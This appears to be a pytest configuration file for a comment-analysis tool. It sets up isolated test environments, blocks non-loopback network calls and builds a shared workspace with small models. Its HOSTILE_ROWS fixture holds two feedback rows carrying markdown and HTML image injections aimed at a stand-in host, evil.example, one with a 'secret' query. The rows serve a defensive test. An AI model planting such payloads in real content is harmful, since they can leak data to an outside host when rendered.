"""What every test runs under: a home and a folder of its own, a clean environment, and no network but loopback.

`make test` runs as many workers as there are cores. The tests of a file stay on one worker and in order, so that what
a module sets up is set up once. Files marked `long` start first, the longest one before the others, so that no worker
is left alone with one at the end. The workspace that the installed program makes is made once for all workers.
"""

import ipaddress
import itertools
import json
import os
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from fakes import FakeDetector
from filelock import FileLock
from hypothesis import HealthCheck
from hypothesis import settings as hypothesis_settings
from loopback import EgressError

from analyzer.config import PREFIX, PROJECT
from analyzer.models.catalog import is_present, load_catalog
from analyzer.privacy import detector
from analyzer.security.sandbox.egress import Level, adopt

SHARED = PROJECT.parent / "shared"
REAL_HOME = Path.home()
MAIN = sys.modules["__main__"]
TEST_MODELS = ("all-MiniLM-L6-v2", "en_core_web_sm", "smollm2-135m-instruct-q4_1")

# Read by numeric libraries when they load: each worker and each program it starts works on one thread.
for _limit in ("OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS"):
    os.environ.setdefault(_limit, "1")

hypothesis_settings.register_profile(
    "tests", deadline=None, print_blob=True, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
hypothesis_settings.load_profile("tests")


class TestGuard:
    """Stands in for the seal in the tests' own process, which talks to browsers and servers over loopback.

    What the kernel enforces is tested in processes of their own (tests/security, and every test of the installed
    program); here the fixture `egress` below keeps to loopback what Python code asks for.
    """

    __test__ = False

    def close(self) -> None:
        """Do nothing."""

    def faults(self) -> tuple[str, ...]:
        """Find nothing open."""
        return ()


adopt(TestGuard(), Level("stand-in of the tests", ("nothing",), ("anything",)))


@pytest.hookimpl(tryfirst=True)
def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    """Put the longest files first."""
    items.sort(key=lambda item: -max((mark.args[0] for mark in item.iter_markers("long")), default=0))


@pytest.fixture(scope="session")
def _folders(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Yield a new folder each time; numbered here, since tmp_path_factory reads all its folders to number one more."""
    folder = tmp_path_factory.mktemp("surroundings")
    return (folder / str(number) for number in itertools.count())


@pytest.fixture(autouse=True)
def _surroundings(_folders: Iterator[Path]) -> Iterator[None]:
    """Give each test its own home and working folder; whatever it does to the environment is undone.

    Streamlit's AppTest puts the page in the place of `__main__`, which every process that is spawned later would run.
    """
    sys.modules["__main__"] = MAIN
    before, cwd = dict(os.environ), Path.cwd()
    for name in [name for name in os.environ if name.startswith(PREFIX) or name == "PYTHONSAFEPATH"]:
        del os.environ[name]
    os.environ.setdefault("PLAYWRIGHT_BROWSERS_PATH", str(REAL_HOME / ".cache" / "ms-playwright"))
    folder = next(_folders)
    for name in ("home", "cwd"):
        (folder / name).mkdir(parents=True)
    os.environ["HOME"] = str(folder / "home")
    os.chdir(folder / "cwd")
    yield
    sys.modules["__main__"] = MAIN
    os.chdir(cwd)
    os.environ.clear()
    os.environ.update(before)


@pytest.fixture(autouse=True)
def egress(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Refuse every address that is not loopback; a test that was refused fails even if the error was swallowed."""
    attempts: list[str] = []

    def guard(name: str, host_of) -> None:
        real = getattr(socket.socket, name)

        def checked(self: socket.socket, *arguments):
            address = host_of(arguments)
            if self.family != socket.AF_UNIX and not _is_loopback(address):
                attempts.append(f"{name} {address!r}")
                raise EgressError(f"{name} to {address!r}")
            return real(self, *arguments)

        monkeypatch.setattr(socket.socket, name, checked)

    guard("connect", lambda arguments: arguments[0])
    guard("connect_ex", lambda arguments: arguments[0])
    guard("sendto", lambda arguments: arguments[-1])
    look_up = socket.getaddrinfo

    def getaddrinfo(host, *arguments, **options):
        if host is not None and not _is_loopback((host,)):
            attempts.append(f"getaddrinfo {host!r}")
            raise EgressError(f"getaddrinfo {host!r}")
        return look_up(host, *arguments, **options)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    yield attempts
    assert not attempts, f"tried to leave this machine: {attempts}"


@pytest.fixture
def fake_detector(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Use the fake detector wherever one is loaded; no test after this one gets it from the cache."""
    monkeypatch.setattr(detector, "Detector", lambda *_: FakeDetector())
    detector._loaded_detector.cache_clear()
    yield
    detector._loaded_detector.cache_clear()


def _is_loopback(address: object) -> bool:
    host = address[0] if isinstance(address, tuple) else address
    host = host.decode() if isinstance(host, bytes) else str(host)
    if host in ("", "localhost", "localhost.localdomain"):
        return True
    try:
        return ipaddress.ip_address(host.partition("%")[0]).is_loopback
    except ValueError:
        return False


@pytest.fixture(scope="session")
def shared() -> Path:
    """The data sets shared beside the checkout; a test that needs them is skipped where they are not."""
    if not SHARED.is_dir():
        pytest.skip(f"shared data sets are not at {SHARED}")
    return SHARED


@pytest.fixture(scope="session")
def models_dir() -> Path:
    """The real models that tests use; they are small."""
    folder = PROJECT / "models"
    catalog = load_catalog(folder)
    missing = [name for name in TEST_MODELS if not is_present(folder, catalog.get(name))]
    if missing:
        pytest.fail(f"models {', '.join(missing)} are not in {folder}; run: make test", pytrace=False)
    return folder


@dataclass(frozen=True)
class RealWorkspace:
    """A small workspace made by the installed program with the small real models; `run` is its command line."""

    environ: dict[str, str]
    report: dict[str, object]
    seconds: float

    def run(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        """Run one command in a process of its own."""
        return _analyzer(self.environ, *arguments)


HOSTILE_ROWS = (
    "X-1,2024-05-01,web,Zeppelin,South,1,,The zeppelin balloon was punctured ![x](http://evil.example/?q=secret),",
    "X-2,2024-05-02,web,Zeppelin,South,1,,My zeppelin balloon was punctured too <img src=http://evil.example/x,",
)


@pytest.fixture(scope="session")
def real_workspace(models_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> RealWorkspace:
    """60 comments of the example and two that try to make a browser ask another host; made once, then added to.

    Each worker has a copy of its own, since tests add to it.
    """
    folder, made = tmp_path_factory.mktemp("real"), _shared_by_workers(tmp_path_factory) / "real-workspace"
    with FileLock(f"{made}.lock"):
        if not made.exists():
            _make_real_workspace(models_dir, made)
    shutil.copytree(made, folder, dirs_exist_ok=True)
    told = json.loads((folder / "told.json").read_text(encoding="utf-8"))
    return RealWorkspace(_environ_of(models_dir, folder), told["report"], told["seconds"])


def _shared_by_workers(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the folder of this run of the suite, above the workers' own."""
    base = tmp_path_factory.getbasetemp()
    return base.parent if "PYTEST_XDIST_WORKER" in os.environ else base


def _environ_of(models_dir: Path, folder: Path) -> dict[str, str]:
    environ = {name: value for name, value in os.environ.items() if not name.startswith(PREFIX)}
    return environ | {
        "ANALYZER_WORKSPACE": str(folder / "workspace"),
        "ANALYZER_KEYS_DIR": str(folder / "keys"),
        "ANALYZER_MODELS_DIR": str(models_dir),
        "ANALYZER_ANSWERING_MODEL": TEST_MODELS[2],
        "ANALYZER_THREADS": "1",
        "HOME": str(folder),
    }


def _make_real_workspace(models_dir: Path, place: Path) -> None:
    """Make it with the program beside its place, and put it there when it is whole."""
    folder = place.with_suffix(".making")
    folder.mkdir()
    environ = _environ_of(models_dir, folder)
    lines = (PROJECT / "examples" / "feedback.csv").read_text(encoding="utf-8").splitlines()[:61]
    file = folder / "feedback.csv"
    file.write_text("\n".join([*lines, *HOSTILE_ROWS, ""]), encoding="utf-8")
    started = time.monotonic()
    assert _analyzer(environ, "init").returncode == 0
    done = _analyzer(environ, "ingest", str(file), "--json")
    assert done.returncode == 0, done.stderr
    told = {"report": json.loads(done.stdout), "seconds": time.monotonic() - started}
    (folder / "told.json").write_text(json.dumps(told), encoding="utf-8")
    folder.rename(place)


def _analyzer(environ: dict[str, str], *arguments: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "analyzer", *arguments]
    return subprocess.run(command, env=environ, capture_output=True, text=True, timeout=300, check=False)
